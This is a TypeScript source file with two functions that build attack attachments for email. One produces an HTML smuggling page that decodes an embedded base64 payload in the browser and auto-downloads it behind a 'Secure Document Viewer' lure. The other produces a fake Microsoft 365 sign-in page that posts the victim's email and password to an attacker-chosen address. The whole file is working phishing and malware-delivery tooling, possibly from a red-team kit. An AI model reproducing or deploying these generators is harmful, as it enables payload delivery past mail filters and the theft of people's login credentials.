/** HTML attachments: a smuggling page that assembles a file in the browser, and a fake sign-in page. */

function escapeHtml(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

export function buildHtmlSmuggling(opts: { payload: Uint8Array; filename: string; mime?: string; title?: string }): Uint8Array {
  const b64 = Buffer.from(opts.payload).toString('base64');
  const chunks = b64.match(/.{1,76}/g) ?? [''];
  const html = `<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>${escapeHtml(opts.title ?? 'Secure Document Viewer')}</title></head>
<body style="font-family:Segoe UI,Arial,sans-serif">
<p>Your document is being prepared for download. If it does not start automatically, please allow downloads.</p>
<script>
var d = [
${chunks.map((c) => `"${c}"`).join(',\n')}
].join("");
function b2a(s) { var bin = window.atob(s); var a = new Uint8Array(bin.length); for (var i = 0; i < bin.length; i++) { a[i] = bin.charCodeAt(i); } return a; }
var blob = new Blob([b2a(d)], { type: "${opts.mime ?? 'application/octet-stream'}" });
var name = "${opts.filename.replace(/["\\]/g, '')}";
if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, name); }
else { var a = document.createElement("a"); a.href = window.URL.createObjectURL(blob); a.download = name; document.body.appendChild(a); a.click(); }
</script>
</body>
</html>
`;
  return new Uint8Array(Buffer.from(html, 'utf8'));
}

export function buildHtmlCredentialForm(action: string, opts: { brand?: string; email?: string } = {}): Uint8Array {
  const brand = escapeHtml(opts.brand ?? 'Microsoft 365');
  const html = `<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Sign in to your account</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2}.box{width:360px;margin:80px auto;background:#fff;padding:40px}</style></head>
<body>
<div class="box">
<h2>${brand}</h2>
<p>Your session has expired. Sign in again to view the shared document.</p>
<form method="POST" action="${escapeHtml(action)}">
<input type="email" name="login" value="${escapeHtml(opts.email ?? '')}" placeholder="Email" required><br>
<input type="password" name="passwd" placeholder="Password" required><br>
<input type="submit" value="Sign in">
</form>
</div>
</body>
</html>
`;
  return new Uint8Array(Buffer.from(html, 'utf8'));
}
